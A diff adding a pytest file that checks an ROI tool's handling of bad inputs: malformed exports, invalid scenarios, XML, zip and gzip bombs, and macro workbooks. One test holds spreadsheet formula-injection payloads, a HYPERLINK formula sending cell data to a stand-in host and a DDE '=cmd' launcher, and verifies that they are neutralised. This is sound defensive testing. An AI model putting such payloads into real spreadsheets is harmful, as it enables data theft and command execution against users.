@@ -1,0 +1,290 @@
+"""The bad-input corpus (tests/bad_inputs/): every file gets a specific, actionable message or the right handling.
+
+Errors: through the command line (exit 2, exactly one ``error:`` line naming the file and the
+problem, nothing on stdout, no traceback) and through the library (the error's file, row,
+column or field).  Quirks that are not errors (mixed time zones, a PR twice across pages,
+Latin-1 and UTF-16 text, another delimiter, a period without developers, injection strings)
+are read correctly, and what was left out is counted.  Large and binary members (bombs,
+macros, a file over the limit) are made at test time by ``tests/bad_inputs/generate.py``.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import subprocess
+import sys
+from datetime import date
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from roi.cli import main
+from roi.errors import DataError, InputFormatError, RoiError, ScenarioError, SchemaVersionError
+from roi.ingest import read_exports
+from roi.metrics import measure
+from roi.models import load_scenario
+from tests.bad_inputs import generate
+from tests.conftest import ROOT, SCENARIOS
+
+CORPUS = ROOT / "tests" / "bad_inputs"
+ADOPTION = "2025-02-01"
+
+
+@pytest.fixture(scope="module")
+def generated(tmp_path_factory) -> dict[str, Path]:
+    paths = generate.write_corpus(tmp_path_factory.mktemp("bad_inputs"))
+    deep = paths["over_limit.csv"].parent / "scenario_deep_nesting.json"
+    deep.write_text("[" * 100_000)
+    paths["scenario_deep_nesting.json"] = deep
+    return paths
+
+
+def _path(name: str, generated: dict[str, Path]) -> Path:
+    return generated[name] if name in generated else CORPUS / name
+
+
+def _cli(capsys, *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def _one_error_line(code: int, out: str, err: str, path: Path) -> str:
+    assert code == 2, err
+    assert out == ""
+    lines = err.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), err
+    assert "Traceback" not in err
+    assert str(path) in lines[0], lines[0]
+    return lines[0]
+
+
+# --- export files: CLI `metrics` ---------------------------------------------------------------
+
+EXPORT_ERRORS = [
+    ("empty.csv", ["is empty", "export it again"]),
+    ("header_only.csv", ["no dated events", "0 data row(s)", "add such an export"]),
+    ("truncated.json", ["is not valid JSON", "line", "check the file is complete"]),
+    ("wrong_api_repos.json", ["not an export format this tool recognises", "full_name", "expected GitHub pulls"]),
+    ("wrong_api_error.json", ["error response from the API", "'Bad credentials'", "check the token"]),
+    ("delimiter_mixed.csv", ["row 2", "column 'time_created'", "is empty"]),
+    ("not_text.csv", ["is a PDF", "load the export itself"]),
+    ("future_dates.json", ["column 'created_at'", "PR acme/api#21", "2099-03-10", "in the future",
+                           "check the date format"]),
+    ("negative_additions.json", ["column 'additions'", "PR acme/api#31", "-400 additions", "never negative"]),
+    ("no_developers_after_adoption.json", ["field 'adoption_date'", "outside the data", "2025-01-07 to 2025-01-14",
+                                           "choose a date with data on both sides"]),
+    ("only_bots.json", ["no merged pull request by a person", "2 bot author", "AI coding agent",
+                        "export a period with merged PRs"]),
+    ("entity_bomb.xlsx", ["xl/sharedStrings.xml", "DOCTYPE or XML entities", "refused without expanding it"]),
+    ("zip_bomb.xlsx", ["xl/worksheets/sheet1.xml", "zip bomb", "refused without opening it"]),
+    ("zip_bomb_declared.xlsx", ["10,240 MB", "zip bomb"]),
+    ("macros.xlsm", ["contains macros (VBA)", "Excel Workbook (.xlsx)"]),
+    ("password_protected.xlsx", ["password-protected", "remove any password"]),
+    ("gzip_bomb.json.gz", ["gzip bomb", "Download the export again"]),
+    ("over_limit.csv", ["209,715,201 bytes", "limit of 209,715,200 bytes (200 MB)", "shorter date range"]),
+]
+
+
+@pytest.mark.parametrize("name, words", EXPORT_ERRORS, ids=[name for name, _ in EXPORT_ERRORS])
+def test_export_error_on_the_command_line(name, words, generated, capsys):
+    path = _path(name, generated)
+    line = _one_error_line(*_cli(capsys, "metrics", str(path), "--adoption-date", ADOPTION), path)
+    for word in words:
+        assert word in line, line
+
+
+SCENARIO_ERRORS = [
+    ("scenario_unknown_key.json", ScenarioError, "review.reviewer_count", ["unknown key", "check its spelling"]),
+    ("scenario_wrong_type.json", ScenarioError, "team.developers", ["valid integer", "'fifty'"]),
+    ("scenario_nan.json", ScenarioError, None, ["NaN is not a number JSON allows", "give a finite value"]),
+    ("scenario_infinity.json", ScenarioError, None, ["Infinity is not a number JSON allows"]),
+    ("scenario_1e308.json", ScenarioError, "team.loaded_cost_per_hour", ["1e+308 is not a usable number",
+                                                                          "below 1e+12"]),
+    ("scenario_huge_integer.json", ScenarioError, "costs.one_off_cost", ["whole number over 1e+12"]),
+    ("scenario_negative_developers.json", ScenarioError, "team.developers", ["greater than 0", "got -50"]),
+    ("scenario_future_version.json", SchemaVersionError, None, ["schema_version 2", "newer version",
+                                                                "upgrade the tool"]),
+    ("scenario_range_outside_field.json", ScenarioError, None, ["uncertainty range 'review.loc_per_hour'",
+                                                                "from -100 to 800", "narrow the range"]),
+    ("scenario_deep_nesting.json", ScenarioError, None, ["nested too deeply"]),
+]
+
+
+@pytest.mark.parametrize("name, kind, field, words", SCENARIO_ERRORS, ids=[s[0] for s in SCENARIO_ERRORS])
+def test_scenario_error_on_the_command_line_and_in_the_library(name, kind, field, words, generated, capsys):
+    path = _path(name, generated)
+    line = _one_error_line(*_cli(capsys, "compute", str(path)), path)
+    for word in words:
+        assert word in line, line
+    if field:
+        assert f"field '{field}'" in line
+    with pytest.raises(kind) as info:
+        load_scenario(path)
+    assert info.value.file == str(path) and info.value.field == field
+
+
+def test_the_same_files_through_a_real_process_print_no_traceback(generated):
+    # The in-process runs above cannot see what the interpreter itself prints on a crash.
+    for name in ("entity_bomb.xlsx", "truncated.json", "scenario_nan.json"):
+        path = _path(name, generated)
+        command = "compute" if name.startswith("scenario") else "metrics"
+        extra = [] if command == "compute" else ["--adoption-date", ADOPTION]
+        done = subprocess.run([sys.executable, "-m", "roi", command, str(path), *extra], capture_output=True,
+                              text=True, cwd=ROOT)
+        assert done.returncode == 2 and done.stdout == ""
+        assert done.stderr.count("\n") == 1 and done.stderr.startswith(f"error: {path}")
+
+
+def test_scenario_command_writes_nothing_on_bad_input(tmp_path, capsys):
+    out = tmp_path / "new.json"
+    code, _, err = _cli(capsys, "scenario", str(CORPUS / "truncated.json"), "--adoption-date", ADOPTION,
+                        "--out", str(out))
+    assert code == 2 and err.startswith("error: ") and not out.exists()
+    assert list(tmp_path.iterdir()) == []
+
+
+# --- the same errors from the library, located -----------------------------------------------
+
+
+def test_library_errors_carry_file_row_and_column():
+    with pytest.raises(InputFormatError) as info:
+        read_exports([CORPUS / "delimiter_mixed.csv"])
+    assert (info.value.row, info.value.column) == (2, "time_created")
+    with pytest.raises(InputFormatError) as info:
+        read_exports([("pulls.json", (CORPUS / "negative_additions.json").read_bytes())])
+    assert (info.value.file, info.value.column) == ("pulls.json", "additions")
+    with pytest.raises(InputFormatError) as info:
+        read_exports([("pulls.json", (CORPUS / "future_dates.json").read_bytes())])
+    assert (info.value.file, info.value.column) == ("pulls.json", "created_at")
+    with pytest.raises(DataError) as info:
+        measure(read_exports([CORPUS / "no_developers_after_adoption.json"]), date(2025, 2, 1))
+    assert info.value.field == "adoption_date"
+
+
+def test_uploaded_bytes_get_the_same_checks_as_paths(generated):
+    # The app passes (name, bytes): the size, bomb and macro checks must not depend on a path.
+    for name in ("entity_bomb.xlsx", "macros.xlsm", "gzip_bomb.json.gz"):
+        with pytest.raises(InputFormatError) as info:
+            read_exports([(name, generated[name].read_bytes())])
+        assert info.value.file == name
+
+
+def test_future_dates_allow_a_day_of_clock_and_zone_slack():
+    from roi.ingest import _refuse_impossible
+
+    dataset = read_exports([CORPUS / "mixed_timezones.json"])
+    _refuse_impossible(dataset, now=pd.Timestamp("2025-03-10T00:00:00Z"))  # the last event, 13:00Z, is within a day
+    with pytest.raises(InputFormatError, match="PR acme/api#5 has merged_at 2025-03-10 13:00 UTC, in the future"):
+        _refuse_impossible(dataset, now=pd.Timestamp("2025-03-09T12:00:00Z"))
+
+
+# --- quirks that are not errors ---------------------------------------------------------------
+
+
+def test_mixed_time_zones_are_converted_to_utc(capsys):
+    dataset = read_exports([CORPUS / "mixed_timezones.json"])
+    prs = dataset.pull_requests.set_index("number")
+    # Z, +02:00, -06:00 and " UTC" all name 09:00 UTC; +01:00 and +05:30 name 09:00 UTC in March.
+    assert set(prs.loc[[1, 2, 3, 4], "created_at"]) == {pd.Timestamp("2025-01-06T09:00:00Z")}
+    assert set(prs.loc[[1, 2, 3, 4], "merged_at"]) == {pd.Timestamp("2025-01-06T17:00:00Z")}
+    assert set(prs.loc[[5, 6, 7, 8], "created_at"]) == {pd.Timestamp("2025-03-10T09:00:00Z")}
+    code, out, _ = _cli(capsys, "metrics", str(CORPUS / "mixed_timezones.json"), "--adoption-date", ADOPTION)
+    metrics = json.loads(out)
+    assert code == 0
+    assert (metrics["baseline"]["cycle_hours_median"], metrics["post"]["cycle_hours_median"]) == (8.0, 4.0)
+
+
+def test_the_same_pr_on_two_pages_is_counted_once(capsys):
+    pages = [CORPUS / "duplicate_pr_page1.json", CORPUS / "duplicate_pr_page2.json"]
+    dataset = read_exports(pages)
+    assert sorted(dataset.pull_requests["number"]) == [10, 11, 12]
+    skipped = [dict(source.skipped) for source in dataset.sources]
+    assert sum(s.get("duplicate of a PR in another page or file", 0) for s in skipped) == 1
+    code, out, _ = _cli(capsys, "metrics", *map(str, pages), "--adoption-date", ADOPTION)
+    metrics = json.loads(out)
+    assert code == 0 and metrics["baseline"]["prs_merged"] == 2 and metrics["post"]["prs_merged"] == 1
+    assert sum(s["skipped"].get("duplicate of a PR in another page or file", 0) for s in metrics["sources"]) == 1
+
+
+@pytest.mark.parametrize("name, encoding, note", [
+    ("jira_latin1.csv", "cp1252", "Windows-1252"),
+    ("jira_utf16_bom.csv", "utf-16", None),
+])
+def test_latin1_and_utf16_text_is_read_exactly(name, encoding, note):
+    dataset = read_exports([CORPUS / name])
+    items = dataset.work_items.set_index("key")
+    assert list(items.index) == ["API-1", "API-2"]
+    assert list(items["assignee"]) == ["José Núñez", "Jürgen Groß"]
+    assert list(items["kind"]) == ["bug", "story"]
+    notes = " ".join(dataset.sources[0].notes)
+    assert (note in notes) if note else "UTF-8" not in notes
+
+
+def test_a_semicolon_delimiter_is_recognised():
+    dataset = read_exports([CORPUS / "delimiter_semicolon.csv"])
+    assert list(dataset.deployments["deploy_id"]) == ["d1", "d2"]
+    assert list(dataset.deployments["deployed_at"]) == [pd.Timestamp("2025-02-10T09:00:00Z"),
+                                                        pd.Timestamp("2025-03-05T10:00:00Z")]
+
+
+def test_a_period_without_developers_is_null_with_a_reason():
+    deployments = ("deploys.csv", b"source,deploy_id,time_created,main_commit,changes\n"
+                                  b"github,d1,2025-01-10 09:00:00 UTC,c1,\ngithub,d2,2025-03-05 10:00:00 UTC,c2,\n")
+    dataset = read_exports([CORPUS / "no_developers_after_adoption.json", deployments])
+    metrics = measure(dataset, date(2025, 2, 1)).model_dump()
+    assert metrics["post"]["developers"] == 0
+    assert metrics["post"]["prs_per_dev_week"] is None and metrics["post"]["pr_size_loc"] is None
+    assert metrics["baseline"]["prs_per_dev_week"] is not None
+    assert "the post period has no merged PRs by people: its per-developer PR metrics are null" in metrics["notes"]
+
+
+def test_only_bot_prs_is_a_data_error_with_the_counts():
+    with pytest.raises(DataError) as info:
+        measure(read_exports([CORPUS / "only_bots.json"]), date(2025, 2, 1))
+    assert info.value.file == str(CORPUS / "only_bots.json")
+
+
+def test_injection_strings_are_read_verbatim_and_exported_inert(capsys):
+    from roi.engine import compute
+    from roi.export import build_workbook
+    from roi.export.data_sheets import tables_of
+
+    files = [CORPUS / "formula_injection.json", CORPUS / "jira_formula_injection.csv"]
+    dataset = read_exports(files)
+    assert '=HYPERLINK("http://example.invalid/?x="&A1,"click")' in set(dataset.work_items["assignee"])
+    assert "=cmd|' /C calc'!A0" in set(dataset.pull_requests["author"])
+    assert "@SUM(1)" in " ".join(dataset.pull_requests["labels"])
+    code, out, err = _cli(capsys, "metrics", *map(str, files), "--adoption-date", ADOPTION)
+    assert code == 0, err
+    scenario = load_scenario(SCENARIOS / "worked_example.json")
+    book = load_workbook(io.BytesIO(build_workbook(scenario, compute(scenario), tables=tables_of(dataset))))
+    texts = []
+    for ws in book.worksheets:
+        if not ws.title.startswith("Data"):
+            continue
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} = {cell.value!r}"
+                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+                    assert cell.quotePrefix
+                    texts.append(cell.value)
+    assert "=cmd|' /C calc'!A0" in texts and "@SUM(1)" in texts
+
+
+def test_every_corpus_file_has_a_test():
+    tested = {name for name, _ in EXPORT_ERRORS} | {s[0] for s in SCENARIO_ERRORS} | {
+        "mixed_timezones.json", "duplicate_pr_page1.json", "duplicate_pr_page2.json", "jira_latin1.csv",
+        "jira_utf16_bom.csv", "delimiter_semicolon.csv", "formula_injection.json", "jira_formula_injection.csv",
+    }
+    committed = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix in (".json", ".csv")}
+    assert committed <= tested, committed - tested
+
+
+def test_errors_are_roi_errors_only():
+    # The families the CLI and the app catch: nothing above is a bare ValueError or KeyError.
+    for kind in (InputFormatError, DataError, ScenarioError, SchemaVersionError):
+        assert issubclass(kind, RoiError)
